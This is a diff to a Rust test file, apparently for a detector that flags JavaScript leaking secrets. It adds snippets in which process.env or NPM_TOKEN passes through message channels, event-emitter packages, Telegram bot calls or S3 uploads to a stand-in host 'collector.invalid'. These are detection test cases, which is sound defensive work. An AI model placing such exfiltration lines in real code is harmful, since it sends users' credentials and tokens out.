@@ -104,12 +104,16 @@ fn every_port_and_every_channel_of_a_name_is_told() {
         &[
             "const a = new MessageChannel(), b = new MessageChannel(); b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
             "const a = new MessageChannel(), b = new MessageChannel(); const p = Date.now() ? a.port2 : b.port2; b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); p.postMessage({ ...process.env })",
+            "const a = new MessageChannel(), b = new MessageChannel(); a.port1.onmessage = e => console.log(e.data); b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
+            "const a = new MessageChannel(), b = new MessageChannel(); b.port1.onmessage = e => console.log(e.data); a.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
+            "const a = new MessageChannel(); const w = Date.now() ? new Worker('./worker.js') : a.port2; a.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); w.postMessage({ ...process.env })",
             "const a = new BroadcastChannel('x'); const b = new BroadcastChannel('x'); b.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
             "const { BroadcastChannel } = require('worker_threads'); new BroadcastChannel('x').onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); new BroadcastChannel('x').postMessage({ ...process.env })",
             "const name = 'up' + 'dates'; new BroadcastChannel(name).addEventListener('message', ({ data }) => fetch('https://collector.invalid', { body: JSON.stringify(data) })); new BroadcastChannel('updates').postMessage(process.env)",
         ],
         &[
             "const a = new MessageChannel(), b = new MessageChannel(); a.port1.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); b.port2.postMessage(process.env)",
+            "const a = new MessageChannel(), b = new MessageChannel(), c = new MessageChannel(); c.port1.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.port1.onmessage = e => console.log(e.data); for (const d of [a, b]) d.port2.postMessage(process.env)",
             "const a = new BroadcastChannel('x'); const b = new BroadcastChannel('y'); b.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
             "const a = new BroadcastChannel('x'); a.onmessage = e => console.log(e.data); a.postMessage({ ...process.env }); fetch('https://api.example', { signal: a })",
             "const a = new BroadcastChannel('x'); a.onmessageerror = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
@@ -242,6 +246,10 @@ fn emitters_of_packages_hand_on_what_they_are_told() {
             "import { EventEmitter } from 'eventemitter3'; class Bus extends EventEmitter {} const e = new Bus(); e.once('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
             "const Emitter = require('tiny-emitter'); const e = new Emitter(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
             "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); require('tiny-emitter/instance').emit('x', process.env)",
+            "const Emittery = require('emittery'); const e = new Emittery(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "import Emittery from 'emittery'; class Bus extends Emittery {} const e = new Bus(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "const ee = require('event-emitter'); const e = ee(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
+            "const ee = require('event-emitter'); const e = ee({ name: 'bus' }); e.once('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
         ],
         &[
             "import mitt from 'mitt'; const e = mitt(); e.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); e.on('y', v => console.log(v)); e.emit('y', process.env)",
@@ -250,6 +258,8 @@ fn emitters_of_packages_hand_on_what_they_are_told() {
             "import { createNanoEvents } from 'nanoevents'; const e = createNanoEvents(); e.on('x', () => fetch('https://api.example')); e.emit('x', process.env)",
             "const EventEmitter = require('eventemitter3'); const e = new EventEmitter(); e.on('x', v => fetch('https://api.example', { body: v.NODE_ENV })); e.emit('x', process.env)",
             "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://api.example', { body: v })); e.emit('x', process.version); e.emit('y', process.env)",
+            "const Emittery = require('emittery'); const a = new Emittery(), b = new Emittery(); a.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); b.emit('x', process.env)",
+            "const ee = require('event-emitter'); const e = ee(); e.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); e.on('y', v => console.log(v)); e.emit('y', process.env)",
         ],
     );
 }
@@ -309,6 +319,10 @@ fn uploads_carry_what_they_are_given() {
             "const { WebClient } = require('@slack/web-api'); const w = new WebClient('x'); w.chat.postMessage({ channel: 'c', text: process.env.NPM_TOKEN })",
             "const { Storage } = require('@google-cloud/storage'); new Storage().bucket('b').file('f').save(process.env.NPM_TOKEN)",
             "const { BlobServiceClient } = require('@azure/storage-blob'); const c = BlobServiceClient.fromConnectionString('x'); c.getContainerClient('b').getBlockBlobClient('f').upload(process.env.NPM_TOKEN, 1)",
+            "const { Bot } = require('grammy'); const b = new Bot('x'); b.api.sendMessage(1, process.env.NPM_TOKEN)",
+            "import { Bot } from 'grammy'; new Bot('x').api.sendDocument(1, Buffer.from(process.env.NPM_TOKEN))",
+            "const S3 = require('aws-sdk/clients/s3'); const s3 = new S3({ region: 'x' }); s3.upload({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN }, () => {})",
+            "import S3 from 'aws-sdk/clients/s3'; new S3().putObject({ Bucket: 'b', Key: 'k', Metadata: { t: process.env.NPM_TOKEN } }).promise()",
         ],
         &[
             "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const c = new S3Client({ region: 'x', credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } }); c.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: 'x' }))",
@@ -324,6 +338,8 @@ fn uploads_carry_what_they_are_given() {
             "const { IncomingWebhook } = require('@slack/webhook'); new IncomingWebhook(process.env.SLACK_WEBHOOK_SECRET).send({ text: 'done' })",
             "const { WebClient } = require('@slack/web-api'); const w = new WebClient(process.env.SLACK_TOKEN); w.chat.postMessage({ channel: 'c', text: 'done', token: process.env.SLACK_TOKEN })",
             "const { BlobServiceClient } = require('@azure/storage-blob'); BlobServiceClient.fromConnectionString(process.env.AZURE_SECRET).getContainerClient('b').getBlockBlobClient('f').upload('x', 1)",
+            "const { Bot } = require('grammy'); const b = new Bot(process.env.TELEGRAM_TOKEN); b.api.sendMessage(1, 'hello'); b.start()",
+            "const S3 = require('aws-sdk/clients/s3'); const s3 = new S3({ secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY }); s3.upload({ Bucket: 'b', Key: 'k', Body: 'x' }); s3.getObject({ Bucket: process.env.AWS_SECRET_BUCKET, Key: 'k' })",
         ],
     );
 }
